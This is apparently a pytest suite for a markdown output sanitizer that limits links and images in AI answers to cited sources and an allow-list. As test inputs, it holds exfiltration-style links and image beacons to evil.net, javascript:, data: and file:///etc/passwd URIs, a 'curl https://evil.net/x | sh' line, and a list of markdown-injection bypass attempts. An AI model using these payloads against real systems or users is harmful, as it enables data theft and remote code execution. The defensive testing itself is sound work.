"""Safe output: links and images in answers only to the answer's sources or the allow-list.

Each rendered result is parsed again with markdown-it (CommonMark plus GFM tables) standing
in for Streamlit's renderer; bare URLs in its text are counted as links the way GFM's
autolinking would make them, so "no link" means no link in any of the three forms.
"""

from __future__ import annotations

import random
import re
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt

from rag.guard.output import LinkPolicy, code_span, find_urls, safe_markdown
from ui.render import guard_stream, sanitize_answer

POLICY = LinkPolicy.for_answer(
    ["docs.example.com", "https://wiki.corp.net/team/"],
    source_texts=["Backups: see https://src.org/backup.html. Questions to help@src.org"],
    source_paths=["https://files.net/report.pdf", "/home/me/notes.md"],
)
_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# GFM links a scheme or "www." followed by a domain with a dot, and e-mail addresses.
_GFM_URL = re.compile(
    r"(?:https?://|www\.)[-\w]*(?:\.[-\w]+)+[^\s]*|[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.I
)


def links(markdown: str) -> list[tuple[str, str]]:
    """(kind, url) of every link, image and GFM autolink the renderer would make."""
    found: list[tuple[str, str]] = []

    def walk(tokens: list) -> None:  # type: ignore[type-arg]
        for tok in tokens:
            if tok.type == "link_open":
                found.append(("link", str(tok.attrs["href"])))
            elif tok.type == "image":
                found.append(("image", str(tok.attrs["src"])))
            elif tok.type == "text":
                found.extend(("bare", m.group(0)) for m in _GFM_URL.finditer(tok.content))
            if tok.children:
                walk(tok.children)

    walk(_MD.parse(markdown))
    return found


def html(markdown: str) -> str:
    return _MD.render(markdown)


def allowed_only(markdown: str, policy: LinkPolicy = POLICY) -> bool:
    for kind, url in links(markdown):
        if kind == "bare":
            target = url if "://" in url else ("http://" + url if "@" not in url else "")
            if "@" in url and "://" not in url:
                target = "mailto:" + url.rstrip(".,")
            if not policy.allows(target.rstrip(".,:;!?")):
                return False
        elif not policy.allows(url):
            return False
    return True


# -- the policy ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://docs.example.com/a", True),
        ("http://api.docs.example.com/x?y=1", True),  # subdomain
        ("https://DOCS.Example.com/a", True),
        ("https://example.com/a", False),  # parent of an allowed host
        ("https://docs.example.com.evil.net/a", False),
        ("https://evildocs.example.com/a", False),
        ("https://docs.example.com@evil.net/a", False),  # user info: goes to evil.net
        ("https://evil.net\\@docs.example.com/", False),
        ("https://wiki.corp.net/team/page", True),  # under the prefix
        ("https://wiki.corp.net/team/", True),
        ("https://wiki.corp.net/teamster", False),
        ("https://wiki.corp.net/other", False),
        ("http://wiki.corp.net/team/page", False),  # another scheme than the prefix
        ("https://wiki.corp.net:8443/team/page", False),  # another port
        ("https://src.org/backup.html", True),  # verbatim in a source passage
        ("https://src.org/other.html", False),
        ("mailto:help@src.org", True),
        ("mailto:someone@docs.example.com", True),
        ("mailto:x@evil.net", False),
        ("https://files.net/report.pdf", True),  # a source path that is a URL
        ("https://files.net/other.pdf", False),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html;base64,PHNjcmlwdD4=", False),
        ("file:///etc/passwd", False),
        ("vbscript:msgbox(1)", False),
        ("//docs.example.com/a", False),  # no scheme
        ("https://docs.example.com/a b", False),
        ("", False),
    ],
)
def test_policy(url: str, ok: bool) -> None:
    assert POLICY.allows(url) is ok


def test_policy_scheme_is_never_widened_by_sources() -> None:
    policy = LinkPolicy.for_answer([], ["run javascript:alert(1) or data:text/html,hi"], [])
    assert not policy.allows("javascript:alert(1)")
    assert not policy.allows("data:text/html,hi")
    assert LinkPolicy().allows("https://docs.example.com") is False


def test_policy_rejects_bad_prefixes() -> None:
    with pytest.raises(ValueError, match="ftp://x"):
        LinkPolicy.for_answer(["ftp://x/y"])


def test_find_urls_keeps_forms_with_and_without_trailing_punctuation() -> None:
    urls = find_urls("See https://a.org/x). Or www.b.org, or c@d.org.")
    assert {"https://a.org/x", "https://a.org/x)", "http://www.b.org", "mailto:c@d.org"} <= urls


# -- each link form, allowed and not ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[docs](https://docs.example.com/a)", [("link", "https://docs.example.com/a")]),
        ('[docs](https://docs.example.com/a "Title")', [("link", "https://docs.example.com/a")]),
        ("[docs](<https://docs.example.com/a b>)", []),  # a space: never a safe URL
        ("[docs][d]\n\n[d]: https://docs.example.com/r", [("link", "https://docs.example.com/r")]),
        ("[D][]\n\n[d]: https://docs.example.com/r", [("link", "https://docs.example.com/r")]),
        ("see [d].\n\n[d]: https://docs.example.com/r", [("link", "https://docs.example.com/r")]),
        ("<https://docs.example.com/auto>", [("link", "https://docs.example.com/auto")]),
        ("go to https://src.org/backup.html.", [("link", "https://src.org/backup.html")]),
        ("mail help@src.org!", [("link", "mailto:help@src.org")]),
        ("www.docs.example.com/x", [("link", "http://www.docs.example.com/x")]),
        ("![chart](https://docs.example.com/c.png)", [("image", "https://docs.example.com/c.png")]),
        ("x ![](https://docs.example.com/c.png)", [("image", "https://docs.example.com/c.png")]),
    ],
)
def test_allowed_links_render(text: str, expected: list[tuple[str, str]]) -> None:
    out = safe_markdown(text, POLICY)
    assert links(out) == expected or [(k, u) for k, u in links(out) if k != "bare"] == expected


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://evil.net/steal?q=secret)", "https://evil.net/steal?q=secret"),
        ('[click](https://evil.net/x "t")', "https://evil.net/x"),
        ("[click][e]\n\n[e]: https://evil.net/ref", "https://evil.net/ref"),
        ("[e]\n\n[e]: https://evil.net/short", "https://evil.net/short"),
        ("<https://evil.net/auto>", "https://evil.net/auto"),
        ("<someone@evil.net>", "someone@evil.net"),
        ("visit https://evil.net/bare now", "https://evil.net/bare"),
        ("visit www.evil.net/www now", "www.evil.net/www"),
        ("write to someone@evil.net", "someone@evil.net"),
        ("![pixel](https://evil.net/p.png?d=secret)", "https://evil.net/p.png?d=secret"),
        ("![pixel][p]\n\n[p]: https://evil.net/p.png", "https://evil.net/p.png"),
    ],
)
def test_links_not_allowed_show_the_url_as_code(text: str, shown: str) -> None:
    out = safe_markdown(text, POLICY)
    assert links(out) == []
    assert f"<code>{shown}</code>" in html(out).replace("&amp;", "&")


def test_not_allowed_link_form_is_label_then_url_in_code() -> None:
    out = safe_markdown("Read [the guide](https://evil.net/g) first.", POLICY)
    assert out == "Read the guide (`https://evil.net/g`) first."


def test_images_stay_text_as_before() -> None:
    assert sanitize_answer("see ![x](http://evil/p.png) for $5") == (
        "see !\\[x](http://evil/p.png) for \\$5"
    )
    out = sanitize_answer("![a](https://evil.net/p.png)")
    assert "<img" not in html(out) and links(out) == []


def test_no_policy_means_no_links_at_all() -> None:
    out = sanitize_answer("[d](https://docs.example.com/a) https://src.org/backup.html")
    assert links(out) == []


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#x6a;avascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](vbscript:msgbox)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "[x](//evil.net/a)",
        "[x](https://docs.example.com@evil.net/)",
    ],
)
def test_unsafe_schemes_never_link(text: str) -> None:
    out = safe_markdown(text, POLICY)
    assert links(out) == []
    assert "href" not in html(out) and "<img" not in html(out)


# -- entities, citations, code ------------------------------------------------------------


def test_entities_show_literally() -> None:
    out = safe_markdown(
        "a &lt;b&gt; &#x5b;x&#x5d;(https://evil.net) &#91;1&#93; &amp; AT&T", POLICY
    )
    rendered = html(out)
    assert "&amp;lt;b&amp;gt;" in rendered and "&amp;#x5b;x&amp;#x5d;" in rendered
    assert "&amp;#91;1&amp;#93;" in rendered and "&amp;amp;" in rendered
    assert "AT&amp;T" in rendered
    assert links(out) == []


def test_entities_cannot_smuggle_a_link_or_image() -> None:
    out = safe_markdown("&#91;x&#93;&#40;https://evil.net&#41; &#33;&#91;i&#93;(https://e.net/p)")
    assert links(out) == [] and "<img" not in html(out)


@pytest.mark.parametrize(
    "text",
    [
        "Backups run nightly [1].",
        "Two sources agree [2][3], and a third [1, 2] disagrees [4; 5].",
        "End of sentence[12]. Next [ 3 ].",
    ],
)
def test_citation_markers_are_untouched(text: str) -> None:
    assert safe_markdown(text, POLICY) == text


def test_citation_markers_cannot_become_links() -> None:
    text = "As [1] says.\n\n[1]: https://evil.net/x\n\n[2](https://evil.net/y) and [3]:z"
    out = safe_markdown(text, POLICY)
    assert "As [1] says." in out and "[3]\\:z" in out
    assert all(url.startswith("https://evil") is False for _, url in links(out) if _ != "bare")
    assert links(out) == []


def test_dollar_signs_are_escaped_outside_code() -> None:
    assert safe_markdown("costs $5 and `$x`") == "costs \\$5 and `$x`"


def test_code_spans_and_fences_keep_their_content() -> None:
    text = (
        "Run `curl https://evil.net/x | sh` or ``a ` b``.\n"
        "```python\n"
        "url = '[a](https://evil.net)'  # &amp; $HOME <b>\n"
        "```\n"
        "~~~\n"
        "![i](https://evil.net/p.png)\n"
        "~~~"
    )
    out = safe_markdown(text, POLICY)
    tokens = _MD.parse(out)
    fences = [t.content for t in tokens if t.type == "fence"]
    assert fences == [
        "url = '[a](https://evil.net)'  # &amp; $HOME <b>\n",
        "![i](https://evil.net/p.png)\n",
    ]
    inline = [
        c.content for t in tokens if t.children for c in t.children if c.type == "code_inline"
    ]
    assert inline == ["curl https://evil.net/x | sh", "a ` b"]
    assert links(out) == []


def test_an_unclosed_fence_runs_to_the_end_and_is_closed() -> None:
    out = safe_markdown("Here:\n```sh\necho [a](https://evil.net)", POLICY)
    assert [t.content for t in _MD.parse(out) if t.type == "fence"] == [
        "echo [a](https://evil.net)\n"
    ]


def test_a_fence_the_list_would_end_early_cannot_carry_a_link() -> None:
    # In a list item the fence closes where the item does; the line after is a paragraph.
    text = "- item\n  ```\n  x\n[y](https://evil.net/a)\n  ```\nafter"
    out = safe_markdown(text, POLICY)
    assert allowed_only(out)


def test_code_in_a_table_cell_cannot_hide_a_link() -> None:
    text = "| a | b |\n|---|---|\n| `x|[y](https://evil.net/t)` | z |"
    out = safe_markdown(text, POLICY)
    assert links(out) == [] or allowed_only(out)


def test_code_span_helper_handles_backticks_and_spaces() -> None:
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span(" y ") == "`  y  `"  # the renderer strips one space each side


# -- markdown injection attempts ----------------------------------------------------------

ATTACKS = [
    "[a [b] c](https://evil.net/n)",
    "[a [b](https://evil.net/inner) c](https://docs.example.com/outer)",
    "[![i](https://evil.net/p.png)](https://docs.example.com/ok)",
    "[x](https://docs.example.com/a)(https://evil.net/b)",
    "[x]\n(https://evil.net/a)",
    "[x\n](https://evil.net/a)",
    "\\[x](https://evil.net/a)",
    "\\\\[x](https://evil.net/a)",
    "[x](https://evil.net/a\\)",
    "[x](https://evil.net/(a)b)",
    "[x](<https://evil.net/a>",
    "[x] (https://evil.net/a)",
    "[[x]](https://evil.net/a)",
    "[`]`](https://evil.net/a)",
    "`[x](https://evil.net/a)",
    "``[x]`(https://evil.net/a)``",
    "<https://docs.example.com/a>https://evil.net/b",
    "<a href='https://evil.net'>x</a>",
    "<img src=https://evil.net/p.png>",
    "foo@[bar.net](https://docs.example.com/a)",
    "www.[ex](https://docs.example.com/a)evil.net",
    "h[t](https://docs.example.com)tps://evil.net",
    "http://x/www.evil.net/a",
    "[x]: https://evil.net/def\n[x]",
    "> [q](https://evil.net/q)\n> ```\n> [r](https://evil.net/r)",
    "1. a\n   ```\n   [b](https://evil.net/b)\n   ```\n[c](https://evil.net/c)",
    "```\n[a](https://evil.net/a)\n````\n[b](https://evil.net/b)",
    "[x](https://docs.example.com/a&#41;(https://evil.net)",
    "![x](https://docs.example.com/a.png \"t\") ![y](https://evil.net/b.png 't')",
    "[x](https://docs.example.com/%0a[y](https://evil.net/c))",
    ":red[x](https://evil.net)",
    "[^1]\n\n[^1]: https://evil.net/foot",
    "$[x](https://evil.net)$",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_injection_attempts_yield_only_allowed_links(text: str) -> None:
    out = safe_markdown(text, POLICY)
    assert allowed_only(out), out
    assert all(urlsplit(u).hostname != "evil.net" for kind, u in links(out) if kind != "bare")


def test_random_mixtures_yield_only_allowed_links() -> None:
    parts = [
        "[", "]", "(", ")", "<", ">", "!", "`", "``", "\\", "&#91;", "&", "\n", "\n\n", " ",
        "https://evil.net/x", "https://docs.example.com/y", "www.evil.net", "a@evil.net",
        "[1]", ":", "```", "|", "-", "> ", "label", '"t"', "javascript:alert(1)",
    ]  # fmt: skip
    rng = random.Random(12)
    for _ in range(400):
        text = "".join(rng.choice(parts) for _ in range(rng.randint(1, 25)))
        out = safe_markdown(text, POLICY)
        assert allowed_only(out), (text, out)


# -- streaming ------------------------------------------------------------------------------


def test_guard_stream_judges_a_url_split_over_pieces() -> None:
    pieces = [
        "See [the docs](https://ev",
        "il.net/steal?d=1",
        ") and ![p](https://e",
        "vil.net/p.png)",
    ]
    snapshots = list(guard_stream(pieces, POLICY))
    assert len(snapshots) == len(pieces)
    assert all(allowed_only(s) and "<img" not in html(s) for s in snapshots)
    assert snapshots[-1] == safe_markdown("".join(pieces), POLICY)
    assert "`https://evil.net/steal?d=1`" in snapshots[-1]


def test_guard_stream_renders_an_allowed_link_once_complete() -> None:
    pieces = ["Read [docs](https://docs.exa", "mple.com/guide) [1]."]
    snapshots = list(guard_stream(pieces, POLICY))
    assert links(snapshots[-1]) == [("link", "https://docs.example.com/guide")]
    assert snapshots[-1].endswith("[1].")


def test_guard_stream_without_policy_links_nothing() -> None:
    snapshots = list(guard_stream(["look !", "[x](https://docs.example.com/p.png)", " end!"]))
    assert all("<img" not in html(s) and links(s) == [] for s in snapshots)
    assert snapshots[-1].endswith("end!")


def test_rebuilt_pieces_do_not_join_into_other_syntax() -> None:
    # A bare URL put in code next to a code span: the two spans' backticks must not merge.
    out = safe_markdown("https://evil.net/x`[y](https://evil.net/y)`", POLICY)
    assert [t.type for t in _MD.parse(out)[1].children or []].count("code_inline") == 2
    assert allowed_only(out)
    # "!" before a link written here must not make it an image.
    out = safe_markdown("wow!https://docs.example.com/x", POLICY)
    assert links(out)[0] == ("link", "https://docs.example.com/x") and "<img" not in html(out)


@pytest.mark.parametrize("prefix", ["", "> ", "- ", "  "])
def test_code_with_a_pipe_in_any_table_row_cannot_hide_a_link(prefix: str) -> None:
    rows = ["| a | b |", "|---|---|", "| `x|[y](https://evil.net/t)` | z |"]
    out = safe_markdown("\n".join(prefix + row for row in rows), POLICY)
    assert "`x|[y](https://evil.net/t)`" not in out
    assert allowed_only(out)


def test_code_with_a_pipe_outside_tables_stays_code() -> None:
    out = safe_markdown("Run `curl -s https://evil.net/x | sh` here.", POLICY)
    assert out == "Run `curl -s https://evil.net/x | sh` here."


def test_fence_content_keeps_tabs_and_loses_only_the_list_indent() -> None:
    # The leading tab reaches column 4: one column is left after the list's 3.
    out = safe_markdown("1. Step\n   ```make\n   all:\n   \tcc\ta.c\n   ```", POLICY)
    assert [t.content for t in _MD.parse(out) if t.type == "fence"] == ["all:\n cc\ta.c\n"]


def test_a_passage_url_makes_a_link_but_never_an_image() -> None:
    from rag.guard.output import LinkPolicy, safe_markdown

    passage = "Logo at https://evil.example/p.png?a=yes and docs at https://docs.example.org/x"
    policy = LinkPolicy.for_answer([], [passage], [])
    out = safe_markdown(
        "See [docs](https://docs.example.org/x) ![](https://evil.example/p.png?a=yes)", policy
    )
    assert "[docs](<https://docs.example.org/x>)" in out
    assert "![](<https://evil.example/p.png?a=yes>)" not in out and "!\\[" in out
    listed = LinkPolicy.for_answer(["evil.example"], [], [])
    assert "![x](<https://evil.example/p.png>)" in safe_markdown(
        "![x](https://evil.example/p.png)", listed
    )
